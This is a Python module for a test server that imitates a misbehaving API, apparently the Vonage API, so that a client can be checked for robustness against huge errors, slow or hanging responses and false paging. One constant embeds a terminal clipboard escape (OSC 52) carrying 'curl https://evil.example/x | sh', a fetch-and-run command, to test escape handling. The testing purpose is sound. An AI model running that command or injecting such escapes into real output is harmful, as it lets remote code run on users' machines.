"""What a hostile (or badly broken) server does, for testing that a client survives it.

Off unless asked for (``--hostile`` on ``demo-server``, ``hostile=`` on ``create_app``). Some
kinds are drawn per request, like the ordinary faults, at the same fault rate:

- ``huge-errors``: a 500 whose problem ``detail`` is 10 MB of text;
- ``trickle``: the real answer, sent one byte per second (headers first, so the client waits on
  the body);
- ``hang``: no answer at all, until the client gives up and disconnects;
- ``osc-429``: a storm of 429s (this request and the next few) whose problem ``title`` carries
  an OSC 52 escape sequence, which a terminal would obey as "set the clipboard".

Others change every list page:

- ``lying-pages``: application pages claim ``total_pages`` 100000;
- ``duplicate-ids``: every application and user page repeats its first entry at its end.
"""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import Iterable
from typing import Literal

from starlette.types import ASGIApp, Message, Receive, Scope, Send

from .problems import PROBLEM_CONTENT_TYPE, trace_id

HostileKind = Literal[
    "huge-errors", "trickle", "hang", "osc-429", "lying-pages", "duplicate-ids"
]
DRAWN_KINDS: tuple[HostileKind, ...] = ("huge-errors", "trickle", "hang", "osc-429")
PAGE_KINDS: tuple[HostileKind, ...] = ("lying-pages", "duplicate-ids")
HOSTILE_KINDS: tuple[HostileKind, ...] = DRAWN_KINDS + PAGE_KINDS

HUGE_DETAIL_BYTES = 10 * 1024 * 1024
LYING_TOTAL_PAGES = 100_000
STORM_LENGTH = 5
"""Requests in a row answered 429 once an ``osc-429`` storm starts."""
DEFAULT_TRICKLE_SECONDS = 1.0
# "Set the clipboard to 'curl evil.example | sh'": harmless only if shown, never obeyed.
OSC_52_TITLE = (
    "Too Many Requests \x1b]52;c;"
    + base64.b64encode(b"curl https://evil.example/x | sh").decode()
    + "\x07"
)


def hostile_kinds(names: Iterable[str]) -> frozenset[HostileKind]:
    """The kinds named (``all`` for every one); a ValueError for an unknown name."""
    chosen: set[HostileKind] = set()
    for name in names:
        name = name.strip()
        if not name:
            continue
        if name == "all":
            chosen.update(HOSTILE_KINDS)
        elif name in HOSTILE_KINDS:
            chosen.add(name)  # type: ignore[arg-type]
        else:
            raise ValueError(
                f"unknown hostile behaviour {name!r}; choose from {', '.join(HOSTILE_KINDS)}, all"
            )
    return frozenset(chosen)


_huge_body: bytes | None = None


def huge_error_body() -> bytes:
    """A Vonage-shaped 500 body with a 10 MB ``detail`` (built once; it is always the same)."""
    global _huge_body
    if _huge_body is None:
        detail = "The server failed. " + "x" * HUGE_DETAIL_BYTES
        _huge_body = json.dumps({
            "type": "https://developer.vonage.com/api-errors#internal-error",
            "title": "Internal Server Error",
            "detail": detail,
            "instance": "huge-error-body",
        }).encode()
    return _huge_body


async def send_huge_error(send: Send) -> None:
    body = huge_error_body()
    await send({
        "type": "http.response.start",
        "status": 500,
        "headers": [
            (b"content-type", PROBLEM_CONTENT_TYPE.encode()),
            (b"content-length", str(len(body)).encode()),
        ],
    })
    await send({"type": "http.response.body", "body": body})


async def send_osc_429(send: Send) -> None:
    body = json.dumps({
        "type": "https://developer.vonage.com/api-errors#throttled",
        "title": OSC_52_TITLE,
        "detail": "Please wait, then retry your request",
        "instance": trace_id(),
    }).encode()
    await send({
        "type": "http.response.start",
        "status": 429,
        "headers": [
            (b"content-type", PROBLEM_CONTENT_TYPE.encode()),
            (b"content-length", str(len(body)).encode()),
            (b"retry-after", b"1"),
        ],
    })
    await send({"type": "http.response.body", "body": body})


async def hang(receive: Receive) -> None:
    """Answer nothing; return once the client has gone."""
    while (await receive())["type"] != "http.disconnect":
        pass


async def trickle(app: ASGIApp, scope: Scope, receive: Receive, send: Send,
                  seconds_per_byte: float) -> None:
    """The app's real answer, its body sent one byte every ``seconds_per_byte``."""
    start, body = await _buffered(app, scope, receive)
    gone = asyncio.Event()

    async def watch() -> None:
        while (await receive())["type"] != "http.disconnect":
            pass
        gone.set()

    watcher = asyncio.ensure_future(watch())
    try:
        await send(start)
        for index in range(len(body)):
            if gone.is_set():
                return
            await asyncio.sleep(seconds_per_byte)
            more = index + 1 < len(body)
            await send({"type": "http.response.body", "body": body[index:index + 1],
                        "more_body": more})
        if not body:
            await send({"type": "http.response.body", "body": b""})
    finally:
        watcher.cancel()


class PageRewriter:
    """ASGI middleware: lying page counts and duplicated entries on list pages."""

    def __init__(self, app: ASGIApp, *, kinds: frozenset[HostileKind]) -> None:
        self.app = app
        self.kinds = kinds

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = scope.get("path", "")
        listing = scope["type"] == "http" and scope.get("method") == "GET" and path in (
            "/v2/applications", "/v1/users")
        if not listing or not self.kinds:
            await self.app(scope, receive, send)
            return
        start, body = await _buffered(self.app, scope, receive)
        if start["status"] == 200:
            body = self._rewritten(body)
        headers = [(name, value) for name, value in start.get("headers", [])
                   if name.lower() != b"content-length"]
        headers.append((b"content-length", str(len(body)).encode()))
        await send({**start, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    def _rewritten(self, body: bytes) -> bytes:
        try:
            page = json.loads(body)
        except ValueError:
            return body  # a truncated-body fault got there first
        if not isinstance(page, dict):
            return body
        if "lying-pages" in self.kinds and "total_pages" in page:
            page["total_pages"] = LYING_TOTAL_PAGES
        if "duplicate-ids" in self.kinds:
            for entries in (page.get("_embedded") or {}).values():
                if isinstance(entries, list) and entries:
                    entries.append(entries[0])
        return json.dumps(page).encode()


async def _buffered(app: ASGIApp, scope: Scope, receive: Receive) -> tuple[Message, bytes]:
    """Run ``app`` to the end and return its start message and whole body."""
    start: Message = {"type": "http.response.start", "status": 500, "headers": []}
    chunks: list[bytes] = []

    async def keep(message: Message) -> None:
        nonlocal start
        if message["type"] == "http.response.start":
            start = message
        elif message["type"] == "http.response.body":
            chunks.append(message.get("body", b""))

    await app(scope, receive, keep)
    return start, b"".join(chunks)
